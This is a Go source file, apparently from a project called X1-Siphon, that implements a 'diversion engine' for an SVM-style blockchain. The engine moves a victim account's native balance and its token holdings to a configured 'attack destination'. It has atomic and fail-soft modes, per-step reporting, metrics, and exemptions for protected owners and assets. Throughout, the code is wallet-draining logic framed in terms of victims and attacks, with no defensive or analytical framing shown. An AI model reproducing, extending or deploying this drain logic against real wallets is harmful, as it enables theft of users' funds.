package siphon

import (
	"fmt"

	"github.com/fortiblox/X1-Siphon/internal/types"
	"github.com/fortiblox/X1-Siphon/pkg/metrics"
	"github.com/fortiblox/X1-Siphon/pkg/svm"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/system"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/token"
)

// Mode selects how diversion failures propagate.
type Mode int

const (
	// ModeAtomic returns the first step error, failing the enclosing
	// transaction and everything it already did.
	ModeAtomic Mode = iota

	// ModeFailSoft records each step error and moves on. Steps already
	// applied stay applied.
	ModeFailSoft
)

func (m Mode) String() string {
	switch m {
	case ModeAtomic:
		return "atomic"
	case ModeFailSoft:
		return "fail-soft"
	default:
		return fmt.Sprintf("Mode(%d)", int(m))
	}
}

// Asset names a diversion step.
type Asset string

const (
	AssetNative    Asset = "native"
	AssetSecondary Asset = "secondary"
	AssetOther     Asset = "other"
)

// StepStatus is the outcome of one diversion step.
type StepStatus string

const (
	StepApplied StepStatus = "applied"
	StepSkipped StepStatus = "skipped"
	StepFailed  StepStatus = "failed"
)

// AssetPair is a victim-side token account and the destination-side
// account that receives its balance. Either may be nil when not supplied.
type AssetPair struct {
	Victim      *svm.AccountInfo
	Destination *svm.AccountInfo
}

func (p AssetPair) present() bool {
	return p.Victim != nil && p.Destination != nil
}

// Request names the accounts of one diversion.
type Request struct {
	Config       *Config
	Victim       *svm.AccountInfo
	Destination  *svm.AccountInfo
	Secondary    AssetPair
	Other        AssetPair
	TokenProgram *svm.AccountInfo
}

// StepResult reports one step.
type StepResult struct {
	Asset  Asset
	Mint   types.Pubkey
	Amount uint64
	Status StepStatus
	Reason string
	Err    error
}

// Report is the outcome of a diversion.
type Report struct {
	Mode      Mode
	Victim    types.Pubkey
	Protected bool
	Steps     []StepResult
}

// Step returns the result for asset, if that step ran.
func (r *Report) Step(asset Asset) (StepResult, bool) {
	for _, s := range r.Steps {
		if s.Asset == asset {
			return s, true
		}
	}
	return StepResult{}, false
}

// Failed returns the failed steps.
func (r *Report) Failed() []StepResult {
	var out []StepResult
	for _, s := range r.Steps {
		if s.Status == StepFailed {
			out = append(out, s)
		}
	}
	return out
}

// Engine moves a victim's balances to the configured destination under a
// policy. The same algorithm serves both modes.
type Engine struct {
	policy  Policy
	metrics *metrics.Metrics
}

// NewEngine creates a diversion engine.
func NewEngine(policy Policy, m *metrics.Metrics) *Engine {
	return &Engine{policy: policy, metrics: m}
}

// Policy returns the engine's policy.
func (e *Engine) Policy() Policy {
	return e.policy
}

// Divert runs the native step and then each asset pair. In ModeAtomic the
// first failure is returned with the partial report; in ModeFailSoft the
// error is always nil and failures are only in the report and the logs.
func (e *Engine) Divert(ctx svm.InvokeContext, req Request, mode Mode) (*Report, error) {
	report := &Report{Mode: mode, Victim: req.Victim.Key}

	if e.policy.IsProtectedOwner(req.Victim.Key) {
		report.Protected = true
		ctx.Log(fmt.Sprintf("divert: %s is protected", req.Victim.Key))
		return report, nil
	}

	steps := []func() StepResult{
		func() StepResult { return e.native(ctx, req) },
		func() StepResult { return e.token(ctx, req, AssetSecondary, req.Secondary) },
		func() StepResult { return e.token(ctx, req, AssetOther, req.Other) },
	}
	for _, step := range steps {
		res := step()
		report.Steps = append(report.Steps, res)
		e.metrics.IncrementDiversionStep(string(res.Asset), string(res.Status))

		switch res.Status {
		case StepApplied:
			ctx.Log(fmt.Sprintf("divert %s: moved %d", res.Asset, res.Amount))
		case StepSkipped:
			ctx.Log(fmt.Sprintf("divert %s: skipped, %s", res.Asset, res.Reason))
		case StepFailed:
			ctx.Log(fmt.Sprintf("divert %s: failed, %v", res.Asset, res.Err))
			if mode == ModeAtomic {
				return report, fmt.Errorf("divert %s: %w", res.Asset, res.Err)
			}
		}
	}
	return report, nil
}

// selfDestination is the skip reason when a step would move a balance onto
// the account it came from.
const selfDestination = "destination is the victim account"

func skipped(asset Asset, reason string) StepResult {
	return StepResult{Asset: asset, Status: StepSkipped, Reason: reason}
}

func failed(asset Asset, err error) StepResult {
	return StepResult{Asset: asset, Status: StepFailed, Err: err}
}

func (e *Engine) native(ctx svm.InvokeContext, req Request) StepResult {
	if req.Destination == nil {
		return skipped(AssetNative, "destination not supplied")
	}
	if req.Destination.Key != req.Config.DivertDestination {
		return failed(AssetNative, errorf(ErrInvalidAttackDestination, "got %s", req.Destination.Key))
	}
	if req.Destination.Key == req.Victim.Key {
		return skipped(AssetNative, selfDestination)
	}
	amount := e.policy.Divertible(req.Victim.Lamports)
	if amount == 0 {
		return skipped(AssetNative, "balance at or below reserve floor")
	}
	if err := ctx.ConsumeCU(svm.CUSiphonDiversionStep); err != nil {
		return failed(AssetNative, err)
	}
	if err := ctx.Invoke(system.Transfer(req.Victim.Key, req.Destination.Key, amount)); err != nil {
		return failed(AssetNative, err)
	}
	return StepResult{Asset: AssetNative, Amount: amount, Status: StepApplied}
}

func (e *Engine) token(ctx svm.InvokeContext, req Request, asset Asset, pair AssetPair) StepResult {
	if !pair.present() {
		return skipped(asset, "accounts not supplied")
	}
	if pair.Destination.Key == pair.Victim.Key {
		return skipped(asset, selfDestination)
	}
	if req.TokenProgram == nil {
		return skipped(asset, "token program not supplied")
	}

	src := pair.Victim
	if !types.IsTokenProgram(src.Owner) {
		return failed(asset, errorf(ErrAccountDeserializationFailed, "%s owned by %s", src.Key, src.Owner))
	}
	acc, err := token.UnpackAccount(src.Data)
	if err != nil || !acc.IsInitialized() {
		return failed(asset, errorf(ErrAccountDeserializationFailed, "%s is not a token account", src.Key))
	}

	res := StepResult{Asset: asset, Mint: acc.Mint}
	switch {
	case acc.Owner != req.Victim.Key:
		res.Status, res.Reason = StepSkipped, "not owned by victim"
		return res
	case acc.Amount == 0:
		res.Status, res.Reason = StepSkipped, "zero balance"
		return res
	case e.policy.IsProtectedAsset(acc.Mint, req.Config.TokenMint):
		res.Status, res.Reason = StepSkipped, "protected asset"
		return res
	}

	if err := ctx.ConsumeCU(svm.CUSiphonDiversionStep); err != nil {
		res.Status, res.Err = StepFailed, err
		return res
	}
	// The program that owns the holding moves it; the supplied token
	// program only gates whether token steps run at all.
	ix := token.Transfer(src.Owner, src.Key, pair.Destination.Key, req.Victim.Key, acc.Amount)
	if err := ctx.Invoke(ix); err != nil {
		res.Status, res.Err = StepFailed, err
		return res
	}
	res.Status, res.Amount = StepApplied, acc.Amount
	return res
}
